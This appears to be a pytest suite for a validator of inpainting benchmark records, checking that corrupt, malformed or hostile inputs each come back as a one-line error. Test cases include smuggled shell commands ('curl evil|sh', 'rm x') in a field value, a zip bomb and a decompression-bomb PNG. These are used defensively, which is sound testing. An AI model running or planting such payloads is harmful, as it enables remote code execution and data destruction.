"""The check names what is wrong with a record, file and key, and never fails on what it reads."""

import io
import json
import os
import zipfile
import zlib
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from on_record import edit, here
from palimpsest.page import checking
from palimpsest.page.checking import check
from palimpsest.page.recording import put_on_record
from palimpsest.results import records

RUN = "runs/deepfill-v1.json"
VALUES = "runs/deepfill-v1.npz"
SCHEDULE = {"schedule": {"phases": [{"iterations": 10}, {"iterations": 20}]}}
DESCRIBED = {"name": "deepfill-v1", "model": "m", "settings": SCHEDULE}
HOLE = ("result", "holes", "rectangle", "psnr_hole")
NO_PNG = "asked for a PNG, found another format, too many pixels, or a file cut short or damaged"
SEEDS, ENDS = ("result", "by_seed", "rectangle"), ("result", "intervals", "rectangle")
TIMED, ON_CPU = ("found", "gl"), ("found", "gl", "measured", "cpu")
PASSES = {"seconds": 2.0, "fastest": 1.5, "peak_mib": 100.0}
COUNTED = {"runs": ["gl"], "parameters": 6_072_131, "structure": "a", "idle": [], "multiply_adds": {"512": 10**9}}


def zipped(path: Path, *members: tuple[str, bytes], method=zipfile.ZIP_DEFLATED) -> None:
    with zipfile.ZipFile(path, "w", method) as file:
        for name, data in members:
            file.writestr(name, data)


def array(values: np.ndarray) -> bytes:
    text = io.BytesIO()
    np.lib.format.write_array(text, values, version=(1, 0), allow_pickle=True)
    return text.getvalue()


def test_a_record_as_it_is_written_has_no_fault(folder, known):
    assert check(folder, known) == []


@pytest.mark.parametrize(
    ("file", "keys", "to", "line"),
    [
        ("record.json", ("profile",), 3, "profile is 3; accepted: text"),
        ("record.json", ("slots", "scenes", "photographs"), [0] * 24, "accepted: ('bundled-photos', 64, 24, 1)"),
        ("record.json", ("slots", "scenes", "sha256"), "6D" * 32, "slots.scenes.sha256 is '6D6D"),
        ("record.json", ("date",), "2026-01-01T00:00:00+00:00", "T00:00:00+00:00'; accepted: that of the last part"),
        ("record.json", ("date",), "9026-05-01T12:30:00+00:00", "date is '9026-05-01T12:30:00+00:00': not the time of"),
        ("record.json", ("date",), "1026-05-01T12:30:00+00:00", "date is '1026-05-01T12:30:00+00:00': not the time of"),
        ("record.json", ("date",), "2026-05-01", "date is '2026-05-01': not the time of a record; accepted: a time in"),
        ("record.json", ("extra",), 1, "extra is not a setting"),
        (RUN, ("made", "commit"), "main", "made.commit is 'main'; accepted: a commit, 40 hexadecimal digits"),
        (RUN, ("made", "date"), "today", "made.date is 'today': no time; accepted: a time in UTC from 2026 until now"),
        (RUN, ("made", "threads"), -3, "made.threads is -3; accepted: a number above 0"),
        (RUN, ("made", "threads"), 10**6, "made.threads is 1000000; accepted: 4096 or less"),
        (RUN, ("made", "device"), " ", "made.device is ' '; accepted: one line of text, at most 200 characters"),
        (RUN, ("made", "device"), "a\nb", r"made.device is 'a\nb'; accepted: one line of text"),
        (RUN, ("made", "device"), "a" * 201, "accepted: one line of text, at most 200 characters"),
        (RUN, ("made", "versions"), {"torch": "9\r1"}, "made.versions.torch is"),
        (RUN, ("described", "stage"), "evaluate@x; curl evil|sh; echo ", "described.stage is 'evaluate@x; curl evil"),
        (RUN, ("described", "stage"), "transfer", "described.stage is 'transfer'; accepted: evaluate"),
        (RUN, ("described", "run", "name"), "gl", "described.run.name is 'gl'; accepted: deepfill-v1"),
        (RUN, ("described", "parameters", "generator"), -1, "parameters.generator is -1; accepted: 0 or more"),
        (RUN, ("result", "model"), "nope", "result.model is 'nope'; accepted: described.run.model, 'm'"),
        (RUN, ("result", "run"), "crfill", "result.run is 'crfill'; accepted: deepfill-v1"),
        (RUN, ("result", "settings"), "b" * 64, "accepted: described.settings"),
        (RUN, ("result", "images"), 10**12, "result.images is 1000000000000; accepted: 1000000 or less"),
        (RUN, ("result", "images"), -1, "result.images is -1; accepted: a number above 0"),
        (RUN, ("result", "photos"), 3, "found dataset, size, images, photos"),
        (RUN, ("result", "seeds"), [], "result.seeds"),
        (RUN, ("result", "seeds"), [1, 1, 1], "result.seeds is [1, 1, 1]: 1 appears twice; accepted: each value once"),
        (RUN, ("result", "seeds"), [-1], "result.seeds.0 is -1; accepted: 0 or more"),
        (RUN, ("result", "seeds"), [1, 2], "result: by_seed.rectangle.l1 is not a mean for each seed"),
        (RUN, ("result", "intervals", "rectangle", "psnr"), [1.0], "intervals.rectangle.psnr is not 4 numbers"),
        (RUN, ("values", "rectangle"), ["nothing"], "values.rectangle: found 'nothing'; accepted: l1"),
        (RUN, ("result", "holes"), {}, "result.holes is {}; accepted: 1 value or more"),
        (RUN, ("result", "holes", "rectangle"), {}, "result.holes.rectangle is {}; accepted: 1 value or more"),
        (RUN, ("result", "hole_ratios", "rectangle"), 0.99, "rectangle is 0.99; accepted: 0.2, as its like"),
        (RUN, (*SEEDS, "psnr_hole"), [99.0], "by_seed.rectangle.psnr_hole is 99.0 with seed 1; accepted: 17.6"),
        (RUN, (*SEEDS, "l2_raw"), [99.0], "by_seed.rectangle.l2_raw is [99.0]; accepted: numbers whose mean is 21"),
        (RUN, (*SEEDS, "beauty"), [1.0], "by_seed.rectangle.beauty has no mean in holes.rectangle"),
        (RUN, (*ENDS, "psnr_hole"), [0.0, 99.0, 24, 0], "is 0.0 to 99.0; accepted: about 17.65 to 17.65, the"),
        (RUN, (*ENDS, "l2_raw"), [99.0, 99.0, 24, 0], "l2_raw is 99.0 to 99.0; accepted: about the mean, 21"),
        (RUN, (*ENDS, "l2_raw"), [19.0, 17.0, 24, 0], "l2_raw is 19.0 to 17.0; accepted: the lower number first"),
        (RUN, (*ENDS, "l2_raw"), [17.0, 19.0, 25, -1], "counts 25 values and -1 undefined ones; accepted: the 24"),
        (RUN, (*ENDS, "l2_raw"), [17.0, 19.0, 23, 0], "l2_raw counts 23 values and 0 undefined ones; accepted: the 24"),
        (RUN, (*ENDS, "psnr_hole"), [17.6, 17.7, 20, 4], "psnr_hole counts 20 pictures; accepted: 24, the number"),
        (RUN, HOLE, 99.0, "result.holes.rectangle.psnr_hole is 99.0; accepted: 17.6"),
        (RUN, HOLE, float("-inf"), "result.holes.rectangle.psnr_hole is -inf; accepted: a finite number"),
        (RUN, HOLE, float("nan"), "result.holes.rectangle.psnr_hole is no number"),
        (RUN, ("result", "holes", "rectangle", "l2_raw"), float("inf"), "rectangle.l2_raw is inf; accepted: a finite"),
        (RUN, ("result", "hole_ratios", "square"), 0.1, "holes, by_seed, intervals and hole_ratios differ in"),
        ("record.json", ("profile",), "tiny; rm x", "profile is 'tiny; rm x'; accepted: a name of small letters"),
        ("record.json", ("slots",), {}, "slots is {}; accepted: 1 value or more"),
        ("benchmark.json", ("rounds",), "one", "rounds is 'one'; accepted: a whole number"),
        ("benchmark.json", ("devices",), {}, "devices.cpu is missing; accepted: the name of the processor"),
        ("benchmark.json", ("devices", "tpu"), "A", "devices.tpu is 'tpu'; accepted: 'cpu' or 'cuda'"),
        ("benchmark.json", (*TIMED, "parameters"), 0, "found.gl.parameters is 0; accepted: a number above 0"),
        ("benchmark.json", (*TIMED, "runs"), [], "found.gl.runs is []; accepted: 1 value or more"),
        ("benchmark.json", (*TIMED, "multiply_adds"), {}, "found.gl: multiply_adds.512 is missing; accepted: a count"),
        ("benchmark.json", (*TIMED, "multiply_adds", "512"), 0, "multiply_adds.512 is 0; accepted: a number above 0"),
        ("benchmark.json", (*TIMED, "measured", "cuda"), {}, "found.gl.measured has cuda; accepted: cpu"),
        ("benchmark.json", (*ON_CPU, "abc"), PASSES, "cpu.abc is 'abc'; accepted: the side of a picture in px"),
        ("benchmark.json", (*ON_CPU, "512"), "no idea", "cpu.512 is 'no idea'; accepted: "),
        ("benchmark.json", (*ON_CPU, "512"), {"seconds": 1.0, "fastest": 1.0}, "cpu.512.peak_mib is missing"),
        ("benchmark.json", (*ON_CPU, "512"), {"seconds": 1.0, "peak_mib": 1.0}, "cpu.512.fastest is missing"),
        ("benchmark.json", (*ON_CPU, "512", "seconds"), 0, "cpu.512.seconds is 0; accepted: a number above 1e-09"),
        ("benchmark.json", (*ON_CPU, "512", "seconds"), -1.0, "cpu.512.seconds is -1.0; accepted: a number above"),
        ("benchmark.json", (*ON_CPU, "512", "seconds"), float("nan"), "cpu.512.seconds is nan; accepted: "),
        ("benchmark.json", (*ON_CPU, "512", "fastest"), 9.0, "fastest is 9.0; accepted: at most the median, sec"),
    ],
)  # fmt: skip
def test_a_wrong_value_is_named_with_its_file_and_key(folder, known, file, keys, to, line):
    edit(folder / "benchmark.json", "found", to={"gl": {**COUNTED, "measured": {"cpu": {"512": PASSES}}}})
    assert check(folder, known) == []
    edit(folder / file, *keys, to=to)
    found = check(folder, known)
    assert any(str(folder) in each and line in each for each in found), found
    assert all("\n" not in each for each in found)


def test_a_run_that_params_does_not_know_is_named(made, folder, known):
    made.add("gl")
    put_on_record(here(made.root), folder.name)
    runs = {name: run for name, run in known.params["runs"].items() if name != "gl"}
    (line,) = check(folder, replace(known, params=known.params | {"runs": runs}))
    assert line.endswith("runs/gl.json: run 'gl' is not in params.yaml; accepted: its runs and transfers")


def test_an_edited_ledger_is_named_by_its_claim(folder, known):
    path = folder / "claims.csv"
    head, first, *rest = path.read_text().splitlines()
    path.write_text("\n".join([head, first.replace("not run", "confirmed").replace("undecided", "confirmed"), *rest]))
    (line,) = check(folder, known)
    assert f"claims.csv: {first.split(',')[0]}: verdict is 'confirmed'" in line and "--ledger` makes it" in line
    path.write_text("\n".join([head, *rest, first.replace("deepfill", "shallow", 1)]))
    missing, made_up = check(folder, known)
    assert "is None" in missing and made_up.endswith("no such claim; accepted: those of the papers")


def test_a_ledger_without_claims_is_one_line_and_one_that_is_all_wrong_a_few(folder, known):
    path = folder / "claims.csv"
    head, *rows = path.read_text().splitlines()
    path.write_text(f"{head}\n")
    (line,) = check(folder, known)
    assert line.startswith(f"{path}: found no claims; accepted: the {len(rows)} that follow") and "--ledger`" in line
    path.write_text("\n".join([head, *(row.replace("not run", "confirmed") for row in rows)]))
    lines = check(folder, known)
    assert len(lines) == 6 and lines[-1].startswith(f"{path}: ") and lines[-1].endswith(" more")


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        ("claims.csv", lambda text: text + text.splitlines()[-1] + "\n", "appears twice; accepted: each id once"),
        ("stages.csv", lambda text: text + text.splitlines()[-1] + "\n", "appears twice; accepted: each stage once"),
        ("stages.csv", lambda text: text + "train@gl,1e300\n", "(train@gl takes 1e+300; accepted: 0 to 31622400)"),
        ("stages.csv", lambda text: text + "train@gl,nan\n", "(train@gl takes nan; accepted: 0 to 31622400)"),
        ("stages.csv", lambda text: text + "train@glt,1\n", ": found 'train@glt'; accepted: train@gl, "),
        ("curves.csv", lambda text: text + "gl,1,1,0\n", ": found run 'gl', which no training on record has; accep"),
        ("curves.csv", lambda text: text + "deepfill-v1,7,1,0\n", ": deepfill-v1: found seed 7; accepted: 1"),
        ("curves.csv", lambda text: text + "deepfill-v1,1,31,0\n", ": deepfill-v1: found iteration 31; accepted: 1 t"),
        ("curves.csv", lambda text: text + "deepfill-v1,1,-1,0\n", ": deepfill-v1: found iteration -1; accepted: 1 t"),
        ("curves.csv", lambda text: text + "deepfill-v1,1,3,0\n" * 2, "deepfill-v1, 1, 3 appears twice; accepted: "),
        ("curves.csv", lambda text: text + "deepfill-v1,1,3,1e9\n", "(deepfill-v1, 1, 3 is 1e9 dB; accepted: -200 "),
    ],
)  # fmt: skip
def test_rows_that_cannot_be_are_named(folder, known, name, text, line):
    edit(folder / RUN, "described", "run", to=DESCRIBED)
    (folder / name).write_text(text((folder / name).read_text()))
    (found,) = check(folder, known)
    assert found.startswith(f"{folder / name}: ") and line in found


def test_curves_of_what_a_run_needs_have_its_first_seed(folder, known):
    needed = {"name": "coarse", "model": "m", "settings": SCHEDULE, "start": None}
    edit(folder / RUN, "described", "run", to={**DESCRIBED, "inside": needed})
    (folder / "curves.csv").write_text("run,seed,iteration,db\ncoarse,1,30,0.5\ndeepfill-v1,1,30,0.5\n")
    assert check(folder, known) == []
    (folder / "curves.csv").write_text("run,seed,iteration,db\ncoarse,2,30,0.5\n")
    assert check(folder, known) == [f"{folder / 'curves.csv'}: coarse: found seed 2; accepted: 1"]
    edit(folder / RUN, "described", "run", to={**DESCRIBED, "inside": "coarse"})
    wrong = f"{folder / RUN}: described.run.inside is 'coarse'; accepted: a mapping of keys to values"
    assert check(folder, known) == [wrong]


def test_curves_of_a_run_that_trains_nothing_are_one_line_for_all_its_seeds(folder, known):
    (folder / "curves.csv").write_text("run,seed,iteration,db\ngl,1,30,0.5\ngl,2,30,0.5\n")
    (line,) = check(folder, known)
    assert line.endswith(
        ": found run 'gl', which no training on record has; accepted: none, as no run on record has one"
    )


def test_a_run_that_is_trained_has_something_to_train(folder, known):
    edit(folder / RUN, "described", "run", to=DESCRIBED)
    edit(folder / RUN, "described", "parameters", to={})
    wrong = f"{folder / RUN}: described.parameters has none; accepted: those of what the run trains"
    assert wrong in check(folder, known)


def test_values_without_a_mean_say_what_has_one(folder, known):
    edit(folder / RUN, "values", to=lambda values: {"centre-50": values["rectangle"]})
    assert check(folder, known) == [f"{folder / RUN}: values: found 'centre-50'; accepted: rectangle"]


def test_files_of_runs_are_called_as_runs_can_be(folder, known):
    for name in ("a b;c", "UPPER"):
        path = (folder / RUN).rename(folder / "runs" / f"{name}.json")
        (line,) = check(folder, known)
        assert line == f"{path}: found {name!r}; accepted: a name of small letters, digits and hyphens"
        path.rename(folder / RUN)
    other = folder.rename(folder.with_name("two words"))
    assert check(other, known) == [f"{other}: found 'two words'; accepted: a name of small letters, digits and hyphens"]


@pytest.mark.parametrize("name", ["record.json", "benchmark.json", "stages.csv", "curves.csv", VALUES, "claims.csv"])
def test_a_file_that_is_missing_is_one_line_that_names_it_once(folder, known, name):
    (folder / name).unlink()
    (line,) = check(folder, known)
    assert line.startswith(f"{folder / name}: ") and line.count(name) == 1 and "Errno" not in line


def test_a_run_on_the_pictures_of_another_slot_is_named(folder, known):
    edit(folder / "record.json", "slots", to=lambda slots: slots | {"unseen": slots["scenes"]})
    edit(folder / RUN, "result", "slot", to="unseen")
    assert f"{folder / RUN}: result.slot is 'unseen'; accepted: scenes" in check(folder, known)


def test_other_values_than_the_means_are_named(folder, known):
    with np.load(folder / VALUES) as file:
        values = file["values"]
    values[0, 0, 0] += 100
    np.savez_compressed(folder / VALUES, values=values)
    assert any("the mean of its values" in line for line in check(folder, known))
    values[0, 0, 0] = np.inf
    np.savez_compressed(folder / VALUES, values=values)
    assert any(f"{VALUES}: rectangle, " in line and "infinite" in line for line in check(folder, known))


@pytest.mark.parametrize(
    ("make", "line"),
    [
        (lambda path: path.write_bytes(b"PK"), "asked for values, found none"),
        (lambda path: path.write_bytes(path.read_bytes()[:-40]), "asked for values, found none"),
        (lambda path: path.unlink(), "asked for values, found none"),
        (lambda path: zipped(path, ("values.npy", b"\x93NUMPY\x01\x00v\x00" + b"(" * 118)), "asked for values"),
        (lambda path: zipped(path, ("values.npy", array(np.zeros(3, "<f4")))), "found float32 (3,), accepted: float32"),
        (lambda path: zipped(path, ("values.npy", array(np.array([{}], object)))), "found object (1,)"),
        (lambda path: zipped(path, ("../a.npy", b"")), "found ../a.npy, accepted: values.npy"),
        (lambda path: zipped(path, ("values.npy", b""), ("b", b"")), "asked for values"),
        (lambda path: zipped(path, ("values.npy", b"a"), method=zipfile.ZIP_LZMA), "accepted: values.npy, deflated"),
    ],
)  # fmt: skip
def test_damaged_or_foreign_values_are_one_line(folder, known, make, line):
    make(folder / VALUES)
    (found,) = check(folder, known)
    assert f"{folder / VALUES}: " in found and line in found and "\n" not in found


def test_a_bomb_is_not_unpacked(folder, known):
    """Of zeros that take a thousandth in the file, only as many are read as the run's values take."""
    zipped(folder / VALUES, ("values.npy", bytes(2**24)))
    read, opened = [], zipfile.ZipExtFile.read
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(zipfile.ZipExtFile, "read", lambda self, n=-1: read.append(n) or opened(self, n))
        (line,) = check(folder, known)
    assert "asked for values" in line and 0 < max(read) < 10_000 and min(read) > 0


def test_so_many_values_that_they_would_fill_memory_are_refused_unread(folder, known, monkeypatch):
    monkeypatch.setattr(records, "UNPACKED", 1000)
    (line,) = check(folder, known)
    assert line.startswith(f"{folder}/runs: found ") and line.endswith("bytes of values once unpacked; accepted: 1000")


@pytest.mark.parametrize("text", ["", "[]", "{" * 5, "[" * 100_000, '{"a": ' * 100_000, "\udcff", "1" * 5000, "null"])
def test_a_damaged_text_is_one_line(folder, known, text):
    for name in ("record.json", RUN, "benchmark.json"):
        kept = (folder / name).read_bytes()
        (folder / name).write_bytes(text.encode(errors="surrogateescape"))
        (line,) = check(folder, known)
        assert line.startswith(f"{folder / name}: asked for ") and len(line) < 500
        (folder / name).write_bytes(kept)
    for name in ("stages.csv", "claims.csv"):
        kept = (folder / name).read_bytes()
        (folder / name).write_bytes(text.encode(errors="surrogateescape"))
        assert all(line.startswith(f"{folder / name}: ") and "\n" not in line for line in check(folder, known))
        assert check(folder, known)
        (folder / name).write_bytes(kept)


def test_what_does_not_belong_there_is_named(folder, known):
    (folder / "weights.bin").write_bytes(b"0")
    (folder / "runs" / "x").mkdir()
    (folder / "runs" / "x" / "notes.txt").touch()
    lines = check(folder, known)
    assert sorted(line.partition(": ")[0] for line in lines) == [
        str(folder / "runs" / "x" / "notes.txt"),
        str(folder / "weights.bin"),
    ]
    (folder / "link").symlink_to("/dev/zero")
    assert check(folder, known) == [f"{folder / 'link'}: found a link or a device; accepted: a plain file"]
    (folder / "link").unlink()
    os.mkfifo(folder / "runs" / "pipe")
    assert check(folder, known) == [f"{folder / 'runs/pipe'}: found a link or a device; accepted: a plain file"]


def test_pictures_are_small_pngs(folder, known):
    path = folder / "pictures" / "scenes-original.png"
    Image.new("RGB", (checking.WIDEST + 1, 64)).save(path)
    (line,) = check(folder, known)
    assert line.startswith(f"{path}: found 791 x 64 px; accepted: at most 790 x 64")
    Image.new("RGB", (1, 1)).save(path)
    (line,) = check(folder, known)
    assert line.startswith(f"{path}: found 1 x 1 px; accepted: at most 790 x 64, 12 pictures of 64 px side by side")
    Image.new("RGB", (64, 64)).save(path)
    assert check(folder, known) == [f"{path}: found 64 x 64 px; accepted: 196 x 64, as its like"]
    data = path.read_bytes()
    bomb = bytearray(data)
    bomb[16:24] = (50_000).to_bytes(4, "big") * 2  # width and height
    bomb[29:33] = zlib.crc32(bomb[12:29]).to_bytes(4, "big")
    for damaged in (bytes(bomb), b"", data[:60]):
        path.write_bytes(damaged)
        (line,) = check(folder, known)
        assert line.startswith(f"{path}: ") and "\n" not in line
    Image.new("RGB", (8, 8)).save(path, "JPEG")
    assert check(folder, known) == [f"{path}: {NO_PNG}"]
    path.unlink()
    assert check(folder, known) == [f"{path}: not found"]


def test_no_flipped_byte_is_a_traceback(folder, known):
    """Of every file some bytes: the check ends, with lines that name files of the record, or finds no difference."""
    draw = np.random.default_rng(0)
    for path in (folder / "record.json", folder / RUN, folder / VALUES, *(folder / "pictures").glob("*input.png")):
        kept = path.read_bytes()
        for place in draw.integers(len(kept), size=4).tolist():
            damaged = bytearray(kept)
            damaged[place] ^= 1 << int(draw.integers(8))
            path.write_bytes(damaged)
            assert all(str(folder) in line and "\n" not in line for line in check(folder, known))
        path.write_bytes(kept)


def test_deep_settings_are_no_trouble(folder, known):
    deep: dict = {}
    for _ in range(300):
        deep = {"a": deep}
    edit(folder / RUN, "described", "run", to={**DESCRIBED, "settings": deep})
    assert check(folder, known) == [] and json.loads((folder / RUN).read_text())
